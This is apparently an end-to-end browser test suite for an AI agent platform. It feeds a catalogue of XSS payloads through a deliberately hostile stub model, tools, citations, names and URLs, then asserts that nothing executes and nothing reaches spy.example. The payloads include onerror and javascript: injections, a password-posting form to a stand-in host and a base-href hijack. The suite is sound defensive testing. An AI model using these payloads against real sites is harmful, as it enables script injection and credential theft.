"""Nothing that is shown can act: text of models, tools, files, people and errors, in Chromium (W-1, SE-14)."""

import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Page

from batuta.events.conversation import Citation
from batuta.kernel.errors import LogicalError
from batuta.kernel.messages import Answer, Delta, TextBlock, ToolCallBlock
from batuta.kernel.usage import Usage
from batuta.llm.model import ModelRequest
from batuta.orchestration.orchestrator import Orchestrator
from batuta.orchestration.specialist import Specialist
from batuta.steps.agent import AgentStep
from batuta.tools.tool import Tool, tool
from tests.support.browser import TALL, Visitor, ask, conversation, settled
from tests.support.platform import Person, Running, running, settings_for

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTACKS = (
    "<script>window.harmed = 'script'</script>",
    "<img src=x onerror=\"window.harmed = 'img'\">",
    "<svg onload=\"window.harmed = 'svg'\"></svg>",
    "<iframe srcdoc=\"<script>parent.harmed = 'iframe'</script>\"></iframe>",
    "[link](javascript:window.harmed='link')",
    "[data](data:text/html,<script>opener.harmed='data'</script>)",
    "[vb](vbscript:msgbox)",
    "![picture](javascript:window.harmed='picture')",
    "![spy](https://spy.example/pixel.png)",
    "<https://x.example/\"onmouseover=\"window.harmed='auto'>",
    "<a href=\"javascript:window.harmed='html'\">html</a>",
    '<form action="https://spy.example"><input name=password><button>send</button></form>',
    "<style>body { display: none }</style>",
    "<base href=https://spy.example/>",
    "$\\href{javascript:window.harmed='maths'}{x}$",
    "$\\htmlData{x=y}{z}$ $\\includegraphics{https://spy.example/m.png}$",
    "```html\n<script>window.harmed = 'code'</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=\"window.harmed = 'cell'\"> |",
    "[^1]: <img src=x onerror=\"window.harmed = 'note'\">",
)
EVIL = "\n\n".join(ATTACKS)
FAIL = "fail, please"
NAME = "<img src=x onerror=\"window.harmed='name'\">\"'><script>window.harmed='name'</script>"
LINKS = """() => [...document.querySelectorAll('a, form[action], iframe, object, embed, base, script:not([src])')]
  .filter(one => one.tagName !== 'A' || !/^(https?:|mailto:|\\/|#|$)/.test(one.getAttribute('href') ?? ''))
  .map(one => one.outerHTML)"""
HANDLERS = """() => [...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())
  .filter(name => name.startsWith('on'))"""


@dataclass
class HostileModel:
    """Says nothing that is not an attack."""

    provider: str = "rules"
    name: str = NAME

    async def generate(self, request: ModelRequest) -> Answer:
        if FAIL in request.messages[-1].text:
            raise LogicalError(EVIL)
        said: str | ToolCallBlock = EVIL
        if request.output is not None:
            steps = [{"agent_id": "evil", "task": NAME, "depends_on": []}]
            said = json.dumps({"steps": steps})
        elif request.tools and not request.tool_results:
            said = ToolCallBlock(id="call_1", name="write", args={"title": NAME, "text": EVIL})
        content = TextBlock(text=said) if isinstance(said, str) else said
        usage = Usage(input=1, output=1)
        return Answer(content=(content,), stop_reason="success", model=NAME, provider=self.provider, usage=usage)

    async def stream(self, request: ModelRequest) -> AsyncIterator[Delta | Answer]:
        answer = await self.generate(request)
        for block in answer.content:
            if isinstance(block, TextBlock):
                yield Delta("text", block.text)
        yield answer


def _writing() -> Tool:
    @tool(effect="write", approval="always", preview=lambda args: f"{NAME}\n{args['text']}")
    async def write(title: str, text: str) -> dict[str, Any]:
        """Write."""
        return {"title": title, "text": text, "passages": [{"file": NAME, "text": EVIL}]}

    return write


def _cited(text: str) -> tuple[Citation, ...]:
    return (Citation(source=NAME, title=NAME, place=NAME, quote=ATTACKS[1], url="javascript:window.harmed='url'"),)


def hostile_team() -> Orchestrator:
    work = AgentStep(
        name="evil",
        model=HostileModel(),
        output=str,
        instructions="Attack.",
        tools=[_writing()],
        cite=_cited,
        is_streaming=True,
    )
    card: dict[str, Any] = {"icon": "<b>", "color": "red;background:url(https://spy.example)", "description": EVIL}
    examples = {"en": (NAME,), "es": (NAME,)}
    evil = Specialist(work, name=NAME, **card, examples=examples, commands=("/evil",))
    return Orchestrator(supervisor=HostileModel(), agents=[evil], is_streaming=True)


@pytest_asyncio.fixture(loop_scope="session")
async def site(tmp_path: Path) -> AsyncIterator[Running]:
    """A platform whose team is the enemy."""
    async with running(settings_for(tmp_path), team=hostile_team()) as found:
        yield found


@pytest_asyncio.fixture(loop_scope="session")
async def ana(site: Running) -> Person:
    """Somebody with a hostile name."""
    return await site.person("e2e00001-ana@example.com", name=NAME)


async def harmless(page: Page, visited: list[str]) -> None:
    """Assert that nothing acted, nothing could, and nothing was fetched from elsewhere."""
    await page.wait_for_timeout(150)
    assert await page.evaluate("window.harmed ?? null") is None
    assert await page.evaluate(LINKS) == []
    assert await page.evaluate(HANDLERS) == []
    assert [address for address in visited if "spy.example" in address] == []


async def opened(visitor: Visitor, site: Running, person: Person) -> tuple[Page, list[str]]:
    page = await visitor.open(site.address, person=person, viewport=TALL)
    visited: list[str] = []
    page.on("request", lambda request: visited.append(request.url))
    return page, visited


async def test_se25_the_page_has_a_policy_that_runs_no_foreign_code(site: Running) -> None:
    answer = await site.stranger().http.get("/")
    policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
    assert (policy["script-src"], policy["object-src"], policy["base-uri"]) == ("'self'", "'none'", "'none'")
    assert policy["frame-ancestors"] == "'none'"


async def test_se24_se25_no_text_of_models_tools_or_approvals_acts_live_or_after_a_reload(
    visitor: Visitor, site: Running, ana: Person
) -> None:
    """Stored: message, plan, agent, approval, tool call and result, answer, citation, title, timeline."""
    page, visited = await opened(visitor, site, ana)
    await page.get_by_role("region", name=NAME).wait_for()
    await harmless(page, visited)
    await ask(page, EVIL)
    await page.get_by_role("button", name="Approve", exact=True).wait_for()
    await harmless(page, visited)
    await page.get_by_role("button", name="Edit").click()
    await harmless(page, visited)
    await page.get_by_role("button", name="Approve with changes").click()
    await settled(page)
    folded = conversation(page).locator("section [aria-expanded=false]")
    for _ in range(await folded.count()):
        await folded.first.click()
    await harmless(page, visited)
    await page.reload()
    await settled(page)
    await harmless(page, visited)
    await page.get_by_role("navigation", name="Sources").first.get_by_role("button").first.click()
    await page.get_by_role("dialog").wait_for()
    await harmless(page, visited)
    await page.keyboard.press("Escape")
    await page.get_by_role("button", name="Timeline of this turn").click()
    await page.get_by_role("dialog").get_by_role("button", name="Answer").first.click()
    await harmless(page, visited)


async def test_no_title_name_or_key_acts(visitor: Visitor, site: Running, ana: Person) -> None:
    """Stored: what people name, and what they are called themselves."""
    session = await ana.session(title=NAME)
    assert (await ana.http.post("/api/keys", json={"name": NAME[:50]})).status_code == 201
    page, visited = await opened(visitor, site, ana)
    await page.goto(f"{site.address}/s/{session}")
    await page.get_by_role("link", name="<img").first.wait_for()
    account = page.get_by_role("button").filter(has_text="e2e00001-ana@example.com")
    assert NAME in await account.inner_text()
    await harmless(page, visited)
    await account.click()
    await page.get_by_role("menuitem").first.wait_for()
    await harmless(page, visited)
    await page.keyboard.press("Escape")
    await page.get_by_role("button", name="Actions for").first.focus()
    await page.keyboard.press("Enter")
    await page.get_by_role("menuitem", name="Delete").click()
    await page.get_by_role("alertdialog").wait_for()
    await harmless(page, visited)
    await page.keyboard.press("Escape")
    await page.keyboard.press("Control+,")
    await page.get_by_role("heading", name="Settings").wait_for()
    await page.get_by_text(NAME[:50], exact=True).wait_for()
    await harmless(page, visited)


async def test_no_error_of_a_failed_turn_acts(visitor: Visitor, site: Running, ana: Person) -> None:
    """Stored: live, after a reload, and in the timeline."""
    page, visited = await opened(visitor, site, ana)
    await ask(page, f"/evil {FAIL}")
    failure = page.get_by_role("alert").filter(has_text=ATTACKS[0])
    await failure.wait_for()
    await harmless(page, visited)
    await page.reload()
    await failure.wait_for()
    await harmless(page, visited)
    await page.get_by_role("button", name="Timeline of this turn").click()
    await page.get_by_role("dialog").wait_for()
    await harmless(page, visited)


async def test_no_reason_of_a_rejection_acts(visitor: Visitor, site: Running, ana: Person) -> None:
    """Stored: as it is typed, as it stands in the conversation, after a reload."""
    page, visited = await opened(visitor, site, ana)
    await ask(page, "/evil write")
    await page.get_by_role("button", name="Reject").click()
    await page.get_by_label("Reason", exact=True).fill(" ".join(ATTACKS))
    await harmless(page, visited)
    await page.get_by_role("button", name="Reject").click()
    decided = conversation(page).locator("section[data-state=rejected]").filter(has_text=ATTACKS[0])
    await decided.wait_for()
    await settled(page)
    await decided.get_by_role("button").first.click()
    await harmless(page, visited)
    await page.reload()
    await decided.wait_for()
    await harmless(page, visited)


async def test_nothing_that_is_found_acts(visitor: Visitor, site: Running, ana: Person) -> None:
    """Stored, then found: titles and messages, with the words of the search marked in the middle of an attack."""
    session = await ana.session(title=f"{NAME} harmed")
    for attack in ATTACKS:
        await ana.say(session, f"/evil {FAIL} {attack}")
    page, visited = await opened(visitor, site, ana)
    await page.get_by_role("link", name="<img").first.wait_for()
    found = page.get_by_role("region", name="Messages").get_by_role("link")
    for words in ("harmed", "onerror", "script", "javascript"):
        await page.get_by_label("Search").fill(words)
        await found.filter(has=page.locator("mark", has_text=words)).first.wait_for()
        await harmless(page, visited)
    await found.first.click()
    await conversation(page).locator("[data-found]").wait_for()
    await harmless(page, visited)


@pytest.mark.parametrize(
    "path",
    [
        "/s/<script>window.harmed=1</script>",
        "/s/%3Cimg%20src=x%20onerror=window.harmed=1%3E",
        "/?next=javascript:window.harmed=1#<img src=x onerror=window.harmed=1>",
        "/api/sessions/<script>window.harmed=1</script>",
        "/api/search?query=<script>window.harmed=1</script>",
        "/assets/<script>window.harmed=1</script>.js",
    ],
)
async def test_nothing_in_an_address_acts(visitor: Visitor, site: Running, ana: Person, path: str) -> None:
    """Reflected: pages and errors alike."""
    page, visited = await opened(visitor, site, ana)
    answer = await page.goto(f"{site.address}{path}")
    assert answer is not None
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "html" not in answer.headers["content-type"] or "onerror" not in await answer.text()
    await harmless(page, visited)
